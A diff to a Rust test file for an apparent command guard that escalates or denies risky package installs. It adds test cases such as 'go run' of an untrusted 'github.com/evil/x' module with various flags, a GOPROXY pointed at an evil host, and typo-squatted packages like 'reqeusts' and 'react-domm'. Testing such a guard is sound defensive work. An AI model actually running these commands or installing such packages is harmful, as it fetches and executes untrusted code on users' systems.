@@ -191,6 +191,12 @@ fn go_installs_of_unknown_modules_are_held() {
         "GOFLAGS=-mod=mod go run github.com/evil/x",
         "go install pypi.org/evil/x@latest",
         "GOPROXY=https://goproxy.evil.example,direct go install golang.org/x/tools/gopls@latest",
+        // Second pass: Go's `--flag`, its debug flags, a module among the
+        // program's arguments.
+        "go run --tags x github.com/evil/x@v1.0.0",
+        "go run --mod mod github.com/evil/x",
+        "go run -debug-trace t.json github.com/evil/x@v1.0.0",
+        "go run ./cmd/tool github.com/evil/x@v1.0.0",
     ] {
         escalate(cmd, "shell.package-source");
     }
@@ -344,6 +350,19 @@ fn structured_installs_are_judged_as_their_command_line() {
         ),
         "deny shell.package-typo"
     );
+    // An ecosystem named with its version.
+    for system in ["Python 3.11", "python3.12", "node 20"] {
+        let list = if system.starts_with('n') {
+            serde_json::json!(["react-domm"])
+        } else {
+            serde_json::json!(["reqeusts"])
+        };
+        assert_eq!(
+            vet("packager_tool", packager(system, list)),
+            "deny shell.package-typo",
+            "{system}"
+        );
+    }
     // A pip URL on Go's module proxy is no registry of Python's.
     assert_eq!(
         vet(
